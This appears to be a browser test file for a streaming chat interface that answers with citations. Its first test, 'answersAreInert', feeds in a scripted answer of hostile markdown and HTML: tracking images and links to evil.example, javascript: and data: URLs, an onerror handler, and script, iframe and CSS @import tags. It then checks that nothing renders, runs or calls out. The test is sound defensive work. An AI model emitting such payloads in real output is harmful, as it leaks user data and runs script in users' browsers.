import { check, until } from "../browser.mjs";
import { ChatPage, QUESTION, RECORDED } from "../chatPage.mjs";

const EVIL = [
  "![tracker](https://evil.example/pixel.png?said=secret)",
  "![tracker][t]",
  "[click](https://evil.example/click)",
  "<https://evil.example/auto> and https://evil.example/bare",
  "[run](javascript:document.title='owned')",
  "[data](data:text/html,<script>document.title='owned'</script>)",
  '<img src="https://evil.example/raw.png" onerror="document.title=\'owned\'">',
  "<script>document.title='owned'</script><iframe src='https://evil.example/frame'></iframe>",
  "<style>@import 'https://evil.example/style.css';</style>",
  "\n\n[t]: https://evil.example/reference.png",
].join("\n\n");

/** A stream of the wire contract with this text as its answer. */
function scripted(text, { run_id: runId, session_id: sessionId }) {
  const run = { stage: "run", status: "started", run_id: runId, session_id: sessionId };
  const filters = { source_ids: [], kinds: [], tags: [] };
  const events = [
    ["run_start", { ...run, message_id: "scripted", model: "scripted", filters }],
    ...text.match(/[^]{1,7}/g).map((piece) => ["token", piece]),
    ["citations", { stage: "citations", status: "complete", citations: [] }],
    [
      "done",
      {
        finish_reason: "stop",
        message_id: "scripted",
        saved: true,
        usage: { input_tokens: 1, output_tokens: 1, estimated: true },
        timings: { retrieval_ms: 1, first_token_ms: 1, total_ms: 1 },
      },
    ],
  ];
  const timestamp = "2026-11-20T10:30:40.000Z";
  return events
    .map(([type, content], index) => `id: ${index + 1}\ndata: ${JSON.stringify({ type, content, timestamp })}\n\n`)
    .join("");
}

/** A document that talks the model into links and pictures gets nothing out of the page. */
export async function answersAreInert(context) {
  const asked = [];
  context.on("request", (request) => asked.push(request.url()));
  const chat = await ChatPage.open(context);
  await chat.page.route("**/chat", (route) =>
    route.fulfill({
      contentType: "text/event-stream",
      body: scripted(EVIL, route.request().postDataJSON()),
    }),
  );
  await chat.ask(QUESTION);
  await chat.ends();
  const answer = chat.page.locator(".answer .md");
  const risky = "a, img, script, iframe, style, object, embed, form, [onerror], [href], [src]";
  check((await answer.locator(risky).count()) === 0, "the answer brought something along");
  const text = await chat.text();
  for (const shown of ["tracker", "click (https://evil.example/click)", "https://evil.example/auto"]) {
    check(text.includes(shown), `“${shown}” is not in “${text}”`);
  }
  for (const words of await answer.getByText(/click|run|data|auto/).all()) await words.click();
  check((await chat.page.title()) === "Citestream", "a script of the answer ran");
  const elsewhere = asked.filter((url) => !url.startsWith(process.env.BASE_URL));
  check(elsewhere.length === 0, `fetched ${elsewhere.join(", ")}`);
  check(context.pages().length === 1, "a window was opened");
}

/** The transcript goes along with the sound until the reader looks elsewhere. */
export async function transcriptFollowsTheSound(context) {
  const chat = await ChatPage.open(context);
  await chat.page.setViewportSize({ width: 1280, height: 420 }); // so that the transcript scrolls
  await chat.ask(RECORDED);
  await chat.ends();
  await chat.page.locator(".answer .md .mark").first().click();
  const { page } = chat;
  await page.locator(".line--playing").waitFor();
  const seek = (second) =>
    page.evaluate((to) => {
      document.querySelector("audio").currentTime = to;
    }, second);
  const playing = () =>
    page.evaluate(() => {
      const line = document.querySelector(".line--playing");
      const view = document.querySelector(".transcript").getBoundingClientRect();
      const { top, bottom } = line?.getBoundingClientRect() ?? { top: -1, bottom: -1 };
      const start = line?.querySelector(".line-time").textContent ?? "";
      return { start, isInView: top >= view.top - 1 && bottom <= view.bottom + 1 };
    });
  const top = () => page.evaluate(() => document.querySelector(".transcript").scrollTop);
  const end = await page.evaluate(() => document.querySelector("audio").duration);
  await seek(end - 8);
  const late = await until("a late line in view", playing, ({ isInView }) => isInView);
  await seek(4);
  const early = (line) => line.start !== late.start && line.isInView;
  const first = await until("an early line in view", playing, early);
  await page.locator(".transcript").hover();
  await page.mouse.wheel(0, 5_000);
  const chosen = await until("the reader's place", top, (now) => now > 100);
  await seek(30);
  await until("another line", playing, (line) => line.start !== first.start);
  check(Math.abs((await top()) - chosen) < 2, "the transcript scrolled away from the reader");
}

/** Everything the live region says, in order: stages, whole sentences, the end. */
export async function screenReaderHearsStagesAndSentences(context) {
  const chat = await ChatPage.open(context);
  await chat.page.evaluate(() => {
    window.heard = [];
    const region = document.querySelector('.chat [aria-live="polite"]');
    new MutationObserver(() => window.heard.push(region.textContent)).observe(region, {
      childList: true,
      characterData: true,
      subtree: true,
    });
  });
  await chat.ask(QUESTION);
  await chat.ends();
  const complete = (heard) => heard.at(-1)?.endsWith("Answer complete.") === true;
  const heard = await until("the end", () => chat.page.evaluate(() => window.heard), complete);
  const isStage = (said) => /^\p{L}+…$/u.test(said);
  const first = heard.findIndex((said) => !isStage(said));
  check(heard.slice(first).every((said) => !isStage(said)), `a stage after text: ${heard}`);
  const sentences = heard.slice(first);
  for (const said of sentences) check(/[.:;!?]$/.test(said), `not a whole sentence: “${said}”`);
  const words = (text) => text.replace(/\[\d+\]/g, "").replace(/[^\p{L}\p{N}]+/gu, "");
  const spoken = words(sentences.join(" ").replace(/Answer complete\.$/, ""));
  check(spoken === words((await chat.stored()).content), `it heard “${sentences.join(" | ")}”`);
}

/** Scrolling up is the reader's: the page stays, says that there is more, and goes there. */
export async function newTextWaitsBelow(context) {
  const chat = await ChatPage.open(context);
  const { page } = chat;
  await page.setViewportSize({ width: 1280, height: 320 });
  await chat.ask(QUESTION);
  await chat.hasText(500);
  const top = () => page.evaluate(() => document.querySelector(".messages").scrollTop);
  await page.evaluate(() => document.querySelector(".messages").scrollTo({ top: 0 }));
  await page.getByRole("button", { name: "New text" }).waitFor();
  const before = (await chat.text()).length;
  await until("more text", () => chat.text(), (text) => text.length > before + 40);
  check((await top()) === 0, "the page moved away from the reader");
  await page.getByRole("button", { name: "New text" }).click();
  await until("the newest text", top, (now) => now > 0);
  await chat.ends();
}

/** Another language from its own file: all of the page, also what was on screen. */
export async function pageSpeaksGerman(context) {
  const chat = await ChatPage.open(context);
  await chat.page.evaluate(() => localStorage.setItem("language", "de"));
  await chat.page.reload();
  await chat.page.getByLabel("Deine Frage").fill(QUESTION);
  await chat.page.keyboard.press("Enter");
  await chat.ends();
  await chat.page.getByText("Wie das gefunden wurde").waitFor();
  check((await chat.page.getAttribute("html", "lang")) === "de", "the page's language is not said");
}
